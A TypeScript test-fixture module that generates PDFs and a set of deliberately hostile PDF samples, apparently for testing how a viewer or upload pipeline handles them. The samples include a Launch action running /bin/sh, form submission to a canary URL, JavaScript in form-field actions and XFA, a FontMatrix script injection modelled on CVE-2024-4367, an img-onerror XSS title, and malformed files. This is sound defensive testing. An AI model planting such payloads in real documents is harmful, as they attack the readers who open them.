// PDFs, as texts of their objects (PDF 1.7, section 7.3): ones that are shown, and ones that would run, ask or lead somewhere.

/** A PDF of these objects, numbered from 1; the first is its catalog. */
function pdfOf(objects: readonly string[]): Buffer {
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, i) => {
    const offset = text.length;
    text += `${i + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(offset).padStart(10, '0')} 00000 n \n`;
  });
  const size = objects.length + 1;
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${offsets.join('')}`;
  return Buffer.from(`${text}${table}trailer\n<</Size ${size}/Root 1 0 R>>\nstartxref\n${text.length}\n%%EOF\n`, 'latin1');
}

const stream = (content: string, more = ''): string => `<</Length ${content.length}${more}>>\nstream\n${content}\nendstream`;

/** Each text on a page of 300 × 200 points, above a red rectangle. */
export function pdfOfPages(texts: readonly string[], { catalog = '', page = '', font = '/Type1/BaseFont/Helvetica' } = {}): Buffer {
  const pageObject = (i: number): number => 4 + 2 * i;
  return pdfOf([
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    `<</Type/Pages/Kids[${texts.map((_, i) => `${pageObject(i)} 0 R`).join(' ')}]/Count ${texts.length}>>`,
    `<</Type/Font/Subtype${font}>>`,
    ...texts.flatMap((text, i) => [
      `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents ${pageObject(i) + 1} 0 R/Resources<</Font<</F1 3 0 R>>>>${page}>>`,
      stream(`1 0 0 rg 20 20 100 40 re f 0 g BT /F1 24 Tf 20 100 Td (${text}) Tj ET`),
    ]),
  ]);
}

type Named = readonly [name: string, contentType: string, bytes: Buffer];

/** PDFs with actions, forms, links, a script in a font, a page of no size, and one that is no more than its beginning. */
export function hostilePdfs(script: string, canary: string): readonly Named[] {
  const text = (value: string): string => `(${value.replaceAll(/[()\\]/g, String.raw`\$&`)})`;
  const uri = `/A<</S/URI/URI(${canary}/pdf-link)>>`;
  const link = `<</Type/Annot/Subtype/Link/Rect[0 0 300 200]${uri}/AA<</E${uri.slice(2)}/U${uri.slice(2)}>>>>`;
  const field = `<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(b)/Rect[10 10 90 40]/AA<</K<</S/JavaScript/JS${text(script)}>>>>>>`;
  const form = `/AcroForm<</Fields[${field}]/XFA ${text(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>${script}</script></xdp:xdp>`)}>>`;
  const launch = `/OpenAction<</S/Launch/F(/bin/sh)/Next<</S/SubmitForm/F(${canary}/pdf-submit)/Next<</S/GoToR/F(${canary}/pdf-other)>>>>>>`;
  // The matrix of a font was once written into a script (CVE-2024-4367).
  const font = `/Type1/BaseFont/Own/FontMatrix[1 2 3 4 5 ${text(`1\\);${script}//`)}]/FirstChar 72/LastChar 72/Widths[600]/FontDescriptor<</Type/FontDescriptor/FontName/Own/Flags 4>>`;
  const pdfs = {
    'links.pdf': pdfOfPages(['Links'], { page: `/Annots[${link}]` }),
    'form.pdf': pdfOfPages(['Form'], { catalog: form, page: `/Annots[${field}]` }),
    'launch.pdf': pdfOfPages(['Launch'], { catalog: launch }),
    'font.pdf': pdfOfPages(['HHH'], { font }),
    'title.pdf': pdfOfPages([`<img src=x onerror=${script.slice(0, 12)}>`]),
    'no-size.pdf': Buffer.from(pdfOfPages(['Flat']).toString('latin1').replace('[0 0 300 200]', '[0 0 0 0]    '), 'latin1'),
    'vast.pdf': Buffer.from(pdfOfPages(['Vast']).toString('latin1').replace('[0 0 300 200]', '[0 0 9e9 9e9]'), 'latin1'),
    'begun.pdf': Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog'),
  };
  return Object.entries(pdfs).map(([name, bytes]): Named => [name, 'application/pdf', bytes]);
}
